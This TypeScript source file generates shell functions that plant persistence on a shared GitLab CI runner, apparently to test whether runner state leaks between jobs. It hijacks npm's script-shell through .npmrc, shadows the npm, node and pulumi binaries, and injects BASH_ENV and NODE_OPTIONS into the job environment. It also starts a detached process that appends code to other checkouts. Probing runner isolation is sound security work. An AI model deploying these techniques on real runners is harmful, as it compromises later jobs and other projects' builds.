import type { Target } from "./target";
import { globalDependency, homeTool, temporaryTool } from "./toolReads";

/**
 * Leaves files on the machine that a runner keeps: in the home folder, the temporary folder and the folders of earlier
 * jobs in it, and in the files by which a job passes variables to its later stages. It also leaves a process running.
 *
 * It leaves out `.bash_profile`, `.profile`, `.gitconfig` and `.config/git` in the home folder. The runner's own login
 * shell and its own git read them before the first line of the CI file: see keptRunner.test.ts.
 */
export function machineFunctions({ home, temporary, programs }: Target): string {
  return `
leave_in_home() {
  echo "script-shell=$(executable 'home folder' .npmrc 'exec sh "$@"')" > '${home}/.npmrc'
  add_trap node 'home folder' .node_modules '${home}/.node_modules/${globalDependency}/index.js'
  add_trap node 'home folder' '${homeTool}' '${home}/${homeTool}'
  for command in npm node pulumi; do
    real="$(command -v "$command")"
    mkdir -p '${home}/.local/bin' '${home}/.pulumi/bin'
    cp "$(executable 'home folder' "bin/$command" "exec '$real' \\"\\$@\\"")" "${home}/.local/bin/$command"
    cp "${home}/.local/bin/$command" "${home}/.pulumi/bin/$command"
  done
}
leave_in_temporary() {
  for folder in '${temporary}' '${temporary}'/tmp.*; do
    [ -d "$folder" ] || continue
    echo "script-shell=$(executable 'temporary folder' .npmrc 'exec sh "$@"')" > "$folder/.npmrc"
    add_trap node 'temporary folder' '${temporaryTool}' "$folder/${temporaryTool}"
    add_trap node 'temporary folder' node_modules "$folder/node_modules/optional-dependency/index.js"
  done
}
leave_in_environment() {
  { echo "BASH_ENV=$(executable environment BASH_ENV '')"
    echo "NODE_OPTIONS=--require=$(node_file environment NODE_OPTIONS)"
  } >> "$GITLAB_ENV"
}
# It outlives the job unless the runner ends it, and writes to each checkout and each new home folder that it sees.
leave_process() {
  setsid bash -c '
    for round in $(seq 600); do
      for file in ${programs.map(({ path }) => `"$CI_PROJECT_DIR/${path}/index.js"`).join(" ")}; do
        [ -f "$file" ] && ! grep -q "background process" "$file" && cat "$0" >> "$file"
      done
      for folder in "${temporary}"/tmp.*; do
        [ -d "$folder" ] && [ ! -e "$folder/.npmrc" ] && echo "script-shell=$1" > "$folder/.npmrc"
      done
      sleep 0.1
    done
  ' "$(node_file 'background process' index.js)" "$(executable 'background process' .npmrc 'exec sh "$@"')" \\
    < /dev/null > /dev/null 2>&1 &
}
`;
}

export const leaveOnMachine = ["leave_in_home", "leave_in_temporary", "leave_in_environment", "leave_process"].join(
  "\n",
);
